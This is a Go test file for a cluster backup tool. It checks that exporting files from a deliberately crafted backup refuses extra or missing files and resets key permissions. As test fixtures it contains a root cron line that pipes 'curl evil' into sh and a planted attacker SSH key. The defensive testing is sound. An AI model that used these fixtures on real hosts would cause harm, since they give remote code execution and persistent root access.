package backup_test

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"filippo.io/age"

	"anvil.dev/anvil/backup"
	"anvil.dev/anvil/backup/envelope"
	"anvil.dev/anvil/backup/envelope/envelopetest"
	"anvil.dev/anvil/internal/hostfs"
	"anvil.dev/anvil/master/mastertest"
	"anvil.dev/anvil/pki"
)

// carriedFiles are a master's BackupFiles as a backup holds them, with
// the mode anvil stores, 0600.
func carriedFiles(t *testing.T, root hostfs.Root) []envelopetest.File {
	t.Helper()
	var fs []envelopetest.File
	for _, p := range backup.BackupFiles() {
		b, err := os.ReadFile(root.Path(p))
		if err != nil {
			t.Fatal(err)
		}
		fs = append(fs, envelopetest.File{Path: strings.TrimPrefix(p, "/"), Mode: 0o600, Data: b})
	}
	return fs
}

func craftHeader(t *testing.T, root hostfs.Root) envelope.BackupHeader {
	t.Helper()
	ca, err := pki.CAHashFromFile(filepath.Join(root.PKI(), "ca.crt"))
	if err != nil {
		t.Fatal(err)
	}
	return envelope.BackupHeader{
		Cluster: "lab", KubernetesVersion: "v1.37.2", EtcdVersion: "3.6.5", Revision: 7,
		Members: []envelope.BackupMember{{Name: "lab-m1", ID: "0123456789abcdef", PeerURLs: []string{"https://10.0.0.11:2380"}}},
		Node:    "lab-m1", Created: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), AnvilVersion: "v0.1.0",
		Trigger: envelope.TriggerManual, CACertHash: ca.String(),
	}
}

// TestExportFilesWritesOnlyWhatBackupsHold plays someone who hands the
// operator a crafted backup to rebuild a master from: export-files runs as
// root, so every record it writes is a file root owns.
func TestExportFilesWritesOnlyWhatBackupsHold(t *testing.T) {
	src := masterRoot(t, mastertest.Cluster())
	id := envelopetest.NewIdentity(t)
	recipients := []string{id.Recipient().String()}
	h := craftHeader(t, src)
	good := carriedFiles(t, src)

	for _, tc := range []struct {
		name  string
		edit  func([]envelopetest.File) []envelopetest.File
		hedit func(*envelope.BackupHeader)
		want  string
	}{
		{name: "an extra cron job", want: "etc/cron.d/x", edit: func(fs []envelopetest.File) []envelopetest.File {
			return append(fs, envelopetest.File{Path: "etc/cron.d/x", Mode: 0o644, Data: []byte("* * * * * root sh -c 'curl evil | sh'\n")})
		}},
		{name: "an extra authorized_keys", want: "root/.ssh/authorized_keys", edit: func(fs []envelopetest.File) []envelopetest.File {
			return append(fs, envelopetest.File{Path: "root/.ssh/authorized_keys", Mode: 0o600, Data: []byte("ssh-ed25519 AAAA attacker\n")})
		}},
		{name: "a file missing", want: "is missing", edit: func(fs []envelopetest.File) []envelopetest.File { return fs[1:] }},
		{name: "a CA the header does not name", want: "the CA inside does not match", hedit: func(h *envelope.BackupHeader) {
			h.CACertHash = "sha256:" + strings.Repeat("0", 64)
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := append([]envelopetest.File(nil), good...)
			if tc.edit != nil {
				files = tc.edit(files)
			}
			hh := h
			if tc.hedit != nil {
				tc.hedit(&hh)
			}
			b := envelopetest.Craft(t, hh, recipients, files, envelopetest.EtcdSnapshot(2))
			out := t.TempDir()
			_, err := backup.ExportFiles(bytes.NewReader(b), []age.Identity{id}, hostfs.Root(out), true)
			if !errors.Is(err, envelope.ErrCorruptBackup) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("export-files of the crafted backup: %v, want a corrupt backup naming %q", err, tc.want)
			}
			if ents, _ := os.ReadDir(out); len(ents) != 0 {
				t.Errorf("a refused backup wrote %v", ents)
			}
		})
	}

	t.Run("modes are anvil's, not the backup's", func(t *testing.T) {
		files := append([]envelopetest.File(nil), good...)
		for i := range files {
			files[i].Mode = 0o644 // every key readable by all, as stored
		}
		b := envelopetest.Craft(t, h, recipients, files, envelopetest.EtcdSnapshot(2))
		out := hostfs.Root(t.TempDir())
		res, err := backup.ExportFiles(bytes.NewReader(b), []age.Identity{id}, out, false)
		if err != nil {
			t.Fatal(err)
		}
		if len(res) != len(backup.BackupFiles()) {
			t.Errorf("%d files exported, want %d", len(res), len(backup.BackupFiles()))
		}
		for _, name := range []string{"ca.key", "sa.key", "etcd/ca.key", "ca.crt", "etcd/ca.crt", "sa.pub"} {
			fi, err := os.Stat(filepath.Join(out.PKI(), name))
			if err != nil || fi.Mode().Perm() != 0o600 {
				t.Errorf("%s: %v %v, want mode 0600", name, fi, err)
			}
		}
	})
}
